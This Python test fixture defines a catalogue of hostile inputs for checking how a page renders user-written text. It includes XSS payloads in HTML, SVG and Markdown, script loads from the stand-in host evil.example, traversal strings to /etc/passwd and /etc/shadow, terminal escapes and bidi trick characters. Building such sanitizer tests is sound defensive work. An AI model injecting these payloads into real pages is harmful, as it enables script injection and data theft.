"""A hundred texts that try to be more than text, wherever a page shows what others wrote.

They call `pwned()`, which exists only if a test defines it, and load resources only from
`evil.example`, to which no request may go.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

HOST = "evil.example"

_HTML = (
    "<script>pwned()</script>",
    "<script src=//evil.example/a.js></script>",
    "<SCRIPT SRC=https://evil.example/b.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=nothing onerror=pwned()>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/set.gif 1x'>",
    "<picture><source srcset=//evil.example/source.gif><img></picture>",
    "<video poster=//evil.example/poster.gif src=//evil.example/film.mp4 autoplay></video>",
    "<audio src=//evil.example/sound.mp3 onloadstart=pwned() autoplay>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=//evil.example/object type=text/html></object>",
    "<embed src=//evil.example/embed>",
    "<link rel=stylesheet href=//evil.example/style.css>",
    "<link rel=prefetch href=//evil.example/prefetch>",
    "<style>body{background:url(//evil.example/background)}</style>",
    "<style>@import '//evil.example/import.css';</style>",
    "<div style='background:url(//evil.example/inline)'>styled</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "<form action=https://evil.example/form><button autofocus>send</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>details</details>",
    "<body onload=pwned()>body",
    "<marquee onstart=pwned()>marquee</marquee>",
    "<a href=javascript:pwned()>press</a>",
    "<a href='data:text/html,<script>opener.pwned()</script>'>data</a>",
    "<button onclick=pwned() popovertarget=nav>button</button>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<textarea></textarea><script>pwned()</script>",
    "</main></div></body></html><script>pwned()</script>",
    "<!-- a comment that never ends",
    "<![CDATA[ <script>pwned()</script>",
    "<p id=app>clobbered</p><form id=body><input name=innerHTML></form>",
    "{@html '<script>pwned()</script>'} {{constructor.constructor('pwned()')()}}",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62;",
)
_SVG = (
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=//evil.example/svg.js /></svg>",
    "<svg><image href=//evil.example/image.svg /></svg>",
    "<svg><use href='//evil.example/use.svg#part' /></svg>",
    "<svg><a href=javascript:pwned()><text y=9>vector</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s />",
    "<svg><set attributeName=href to=javascript:pwned() /></svg>",
    "<svg><foreignObject><iframe src=//evil.example/foreign></iframe></foreignObject></svg>",
    "<svg><style>@import '//evil.example/svg.css'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>formula</math>",
)
_MARKDOWN = (
    "[press me](javascript:pwned())",
    "[press me](JaVaScRiPt:pwned())",
    "[press me](java\tscript:pwned())",
    "[press me](&#106;avascript:pwned())",
    "[press me](vbscript:pwned)",
    "[press me](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[press me](https://evil.example/link 'onmouseover=pwned()')",
    "![seen](https://evil.example/markdown.gif)",
    "![seen][ref]\n\n[ref]: https://evil.example/reference.gif",
    "![seen](x onerror=pwned() 'a\"onerror=pwned()')",
    "<https://evil.example/auto>",
    "<javascript:pwned()>",
    "[x](https://evil.example/a'onclick='pwned\\(\\))",
    "```html\n<script>pwned()</script>",
    '```"><img src=x onerror=pwned()>\ncode\n```',
    "`<img src=x onerror=pwned()>` and ``<script>pwned()</script>``",
    "| one | two |\n|---|---|\n| <script>pwned()</script> | ![](//evil.example/table.gif) |",
    "# <script>pwned()</script>\n\nheading\n===",
    "> <img src=x onerror=pwned()>\n>> deeper " * 3,
    "- [ ] <input onfocus=pwned() autofocus>\n- [x] done",
    "[^1]\n\n[^1]: <script>pwned()</script>",
    "* " * 200 + "deeply nested list",
    "[" * 500 + "brackets" + "](x)" * 500,
    "**" * 400 + "emphasis" + "__" * 400,
)
_ADDRESSES = (
    "https://evil.example/bare?with=words",
    "http://user:word@evil.example/@127.0.0.1/",
    "//evil.example/without-scheme",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "blob:https://evil.example/0000",
    "file:///etc/passwd",
    "/api/v1/session?token=guessed",
    "../../../../etc/shadow",
    "https://\u0435vil.example/cyrillic",
)
_TERMINAL = (
    "\x1b[31mred\x1b[0m and plain",
    "\x1b]8;;https://evil.example/osc\x07hyperlink\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b[2J\x1b[Hcleared",
    "\x9b31mcontrol sequence of one byte",
    "bell\x07 backspace\x08\x08 delete\x7f feed\x0c",
    "first\rsecond overwrites",
)
_DIRECTIONS = (
    "user \u202egnp.exe\u202c follows",
    "\u2066isolated\u2069 and \u2067turned\u2069",
    "if access == \u202e\u2066'admin' // only\u2069 \u2066 then",
    "zero\u200bwidth\u200cjoiners\u200dand\ufeffmarks",
    "\u061carabic letter mark \u200fright \u200eleft",
    "line\u2028separator paragraph\u2029separator",
)
_LONG = (
    "word" * 5_000,
    "many words in one line " * 1_000,
    "line\n" * 2_000 + "last",
    "\U0001f469\u200d\U0001f4bb" * 500 + " emoji",
)


@dataclass(frozen=True)
class Payload:
    """One text, between two marks by which it can be found."""

    number: int
    text: str

    @property
    def mark(self) -> str:
        """The mark before it."""
        return f"p{self.number:03}"

    @property
    def end(self) -> str:
        """The mark after it, which must not be swallowed."""
        return f"e{self.number:03}"

    @property
    def message(self) -> str:
        """The payload as a text of several lines."""
        return f"{self.mark}\n\n{self.text}\n\n{self.end}"

    @property
    def line(self) -> str:
        """The payload as a title."""
        return f"{self.mark} {' '.join(self.text.split())[:300]}"

    @property
    def name(self) -> str:
        """The payload as a file name."""
        safe = self.line.replace("/", "\u2215").encode()[:120]
        return safe.decode(errors="ignore").rstrip(". ") + ".txt"

    @property
    def words(self) -> frozenset[str]:
        """The words a reader must be able to find, however formatted; without Markdown syntax."""
        return frozenset(re.findall(r"[A-Za-z]{5,}", self.text))


PAYLOADS = tuple(
    Payload(number, text)
    for number, text in enumerate(
        (*_HTML, *_SVG, *_MARKDOWN, *_ADDRESSES, *_TERMINAL, *_DIRECTIONS, *_LONG), 1
    )
)
